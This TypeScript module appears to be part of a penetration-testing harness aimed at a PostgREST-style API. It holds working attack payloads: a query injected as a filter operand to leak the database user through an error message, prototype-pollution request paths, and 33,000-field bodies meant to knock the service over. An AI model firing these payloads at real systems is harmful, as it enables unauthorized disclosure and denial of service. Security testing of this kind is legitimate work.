import { ask, type Attempt, isDone, note, type Target } from './target';

/** A statement in place of a value. If it is run, the database's error message names the user who ran it. */
const statement = {
  type: 'query',
  schema: 'pg_catalog',
  from: 'pg_class',
  select: [{ name: { column: 'relname', aggregate: 'to_jsonb(current_user::int) || to_jsonb' } }],
  limit: 1,
};
const operand = encodeURIComponent(`eq.${JSON.stringify(statement)}`);
const hasRun = (text: string) => /invalid input syntax/.test(text);

/** Names that every JavaScript object inherits: writing to them affects all objects. */
const inherited = [
  '/rest/v1/chats?__proto__=eq.1',
  '/rest/v1/chats?select=__proto__:chat_message(*)&__proto__.order=nothing&__proto__.limit=0',
  '/rest/v1/chats?select=constructor:chat_message(*)&constructor.assign=eq.1',
];

/** What the query language of URLs and bodies can be abused for beyond the queries that it is meant for. */
export const attackLanguage = async (target: Target): Promise<Attempt[]> => {
  const track = () => ask(target, 'POST', '/rest/v1/rpc/track_consignment', { body: { tracking_id: '0' } });
  const attempts: Attempt[] = [];
  for (const path of ['rpc/track_consignment?track_consignment', 'contactForm?email', 'consignment?id']) {
    const method = path.startsWith('rpc') ? 'POST' : 'GET';
    const body = method === 'POST' ? { tracking_id: '0' } : undefined;
    const answer = await ask(target, method, `/rest/v1/${path}=${operand}`, { body });
    attempts.push(
      note(`a statement as an operand of ${path}`, answer, isDone(answer) || hasRun(answer.text)),
    );
  }
  for (const path of inherited) {
    await ask(target, 'GET', path);
    const after = await track();
    attempts.push(note(`what comes after ${path}`, after, !isDone(after)));
  }
  const fields = Object.fromEntries(Array.from({ length: 33_000 }, (_, index) => [`c${index}`, 0]));
  for (const body of [fields, Array.from({ length: 33_000 }, () => ({ a: 0 }))]) {
    await ask(target, 'POST', '/rest/v1/contactForm', { body });
    const after = await track();
    attempts.push(note('what comes after more values than a statement holds', after, !isDone(after)));
  }
  return attempts;
};
